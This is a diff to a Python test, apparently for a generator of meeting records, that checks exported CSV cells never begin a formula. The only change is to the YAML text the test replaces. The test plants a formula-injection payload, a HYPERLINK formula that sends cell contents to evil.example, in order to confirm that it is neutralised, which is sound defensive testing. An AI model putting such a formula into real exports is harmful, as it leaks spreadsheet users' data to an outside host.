@@ -62,9 +62,9 @@ def test_search_filter_labels_show_their_text_and_run_nothing(project: Path) -> 
 def test_csv_cells_never_start_a_formula(project: Path) -> None:
     meeting = project / "content" / "meetings" / "testshire" / "2024-05-01-scrutiny.yaml"
     attack = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
-    _replace(meeting, "{text: That the report be noted., kind: noted}",
+    _replace(meeting, "{text: That the report be noted., plain:",
              "{text: " + repr(attack).replace("'", '"' if '"' not in attack else "'")
-             + ", kind: noted}")
+             + ", plain:")
     result = build(options_for(project))
     assert not [f for f in result.findings if f.level == "error"], result.findings
     rows = list(csv.reader(io.StringIO(
